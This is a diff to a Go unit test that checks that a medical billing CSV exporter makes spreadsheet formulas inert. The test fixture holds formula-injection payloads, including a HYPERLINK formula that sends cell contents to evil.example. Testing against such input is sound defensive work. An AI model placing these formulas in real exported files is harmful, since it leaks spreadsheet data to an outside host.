@@ -15,7 +15,7 @@ func TestWriteCSVMakesFormulasInert(t *testing.T) {
 	rep := MonthReport{Report: Report{Month: "2026-03", Rows: []Row{
 		{Patient: `=HYPERLINK("http://evil.example/?"&A1,"Open")`, Program: care.CCM, BillingNPI: "@SUM(1+1)", Seconds: 1260,
 			Status: Billable, Codes: []CodeLine{{Code: Code99490, Units: 1, AmountCents: 6613}}, AmountCents: 6613,
-			Reasons: []Reason{"+cmd"}, Next: &Next{Code: Code99439, MinutesNeeded: 19}},
+			Reasons: []Reason{"+cmd"}, Next: &Next{Code: Code99439, MinutesNeeded: 19}, UncountedSeconds: 600},
 	}}}
 	var b strings.Builder
 	if err := WriteCSV(&b, rep); err != nil {
@@ -35,6 +35,7 @@ func TestWriteCSVMakesFormulasInert(t *testing.T) {
 	want := map[string]string{
 		"patient": `'=HYPERLINK("http://evil.example/?"&A1,"Open")`, "billing_npi": "'@SUM(1+1)", "reasons": "'+cmd",
 		"seconds": "1260", "minutes": "21", "amount": "66.13", "codes": "99490x1", "next_code": "99439", "next_minutes": "19",
+		"uncounted_seconds": "600", "next_needs": "",
 	}
 	for col, w := range want {
 		if got[col] != w {
